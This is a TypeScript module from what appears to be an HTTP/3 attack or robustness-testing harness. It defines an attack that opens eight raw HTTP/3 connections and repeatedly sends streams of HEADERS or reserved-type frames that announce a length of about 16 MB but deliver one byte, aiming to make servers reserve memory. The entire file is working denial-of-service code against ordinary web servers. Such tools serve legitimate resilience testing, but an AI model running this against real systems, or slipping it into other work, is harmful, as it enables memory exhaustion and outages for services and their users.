import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "../../attack.ts";
import { RawHttp3 } from "../../clients/raw-http3.ts";

const connections = 8;
const streams = 100;
/** The longest frame for which HTTP libraries are known to reserve memory. */
const announcedBytes = 2 ** 24 - 1;
/** HEADERS, and a reserved type (RFC 9114 §7.2.1 and §7.2.8). */
const types = [0x01, 0x21];

/** Frames that announce a length and then send one byte. */
export const announcedFrames: Attack = {
  name: "frames that are only announced",
  unit: "frames",
  async run(target, signal, tally) {
    while (!signal.aborted) {
      const clients = await Promise.all(Array.from({ length: connections }, () => RawHttp3.open(target)));
      for (const [i, client] of clients.entries())
        for (let n = 0; n < streams && client.hasRoom && !signal.aborted; n++, await sleep(1)) {
          client.stream(announced(types[i % types.length]!), false);
          tally();
        }
      await sleep(1000, undefined, { signal }).catch(() => undefined);
      for (const client of clients) client.close();
    }
  },
};

function announced(type: number): Buffer {
  const frame = Buffer.from([type, 0, 0, 0, 0, 0]);
  frame.writeUInt32BE((0x80000000 | announcedBytes) >>> 0, 1);
  return frame;
}
